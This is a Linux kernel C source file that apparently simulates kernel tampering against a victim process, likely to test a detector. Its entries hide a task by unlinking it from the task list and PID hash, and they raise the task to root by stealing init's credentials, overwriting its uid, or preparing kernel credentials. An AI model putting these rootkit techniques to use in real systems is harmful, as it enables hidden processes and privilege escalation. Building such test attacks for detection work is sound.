// SPDX-License-Identifier: GPL-2.0
/* Processes and their rights. The victim is a process that sleeps. */
#include <linux/cred.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>

#include "attack.h"

static int unlink_task(void)
{
	struct task_struct *task = victim();

	if (!task)
		return -ESRCH;
	return poke(&task->tasks.prev->next, (unsigned long)task->tasks.next) ?:
	       poke(&task->tasks.next->prev, (unsigned long)task->tasks.prev);
}

static int unlink_pid(void)
{
	struct task_struct *task = victim();

	return task ? poke(&task->thread_pid->tasks[PIDTYPE_PID].first, 0) : -ESRCH;
}

static int give(struct task_struct *task, const struct cred *cred)
{
	return poke(&task->real_cred, (unsigned long)cred) ?: poke(&task->cred, (unsigned long)cred);
}

static int steal_cred(void)
{
	struct task_struct *task = victim();

	return task ? give(task, rcu_access_pointer(init_pid_ns.child_reaper->real_cred)) : -ESRCH;
}

/* An ordinary user's rights, as a set of its own: what the next two begin with. */
static int make_ordinary(struct task_struct *task)
{
	struct cred *cred = (struct cred *)rcu_access_pointer(task->real_cred);
	kuid_t *ids[] = { &cred->uid, &cred->euid, &cred->suid, &cred->fsuid };
	unsigned int i;

	for (i = 0; i < ARRAY_SIZE(ids); i++)
		ids[i]->val = 1000;
	cred->cap_permitted = cred->cap_effective = CAP_EMPTY_SET;
	return 0;
}

static int ordinary(void)
{
	struct task_struct *task = victim();

	return task ? make_ordinary(task) : -ESRCH;
}

static int write_cred(void)
{
	struct task_struct *task = victim();
	struct cred *cred = task ? (struct cred *)rcu_access_pointer(task->real_cred) : NULL;

	return cred ? poke(&cred->uid, 0) ?: poke(&cred->euid, 0) : -ESRCH;
}

static struct cred *raised;

static int raise_cred(void)
{
	struct task_struct *task = victim();

	if (!task)
		return -ESRCH;
	raised = prepare_kernel_cred(&init_task);
	return raised ? give(task, raised) : -ENOMEM;
}

static void lower_cred(void)
{
	/* The task goes back to its own by the pokes; nobody else holds these. */
	if (raised)
		abort_creds(raised);
	raised = NULL;
}

static void nothing(void)
{
}

const struct attack task_attacks[] = {
	{ "task-unlink", unlink_task },
	{ "pid-unlink", unlink_pid },
	{ "cred-steal", steal_cred },
	/* No manipulation, and stays: makes the victim an ordinary user's. */
	{ "ordinary", ordinary, nothing },
	{ "cred-write", write_cred },
	{ "cred-raise", raise_cred, lower_cred },
	{ },
};
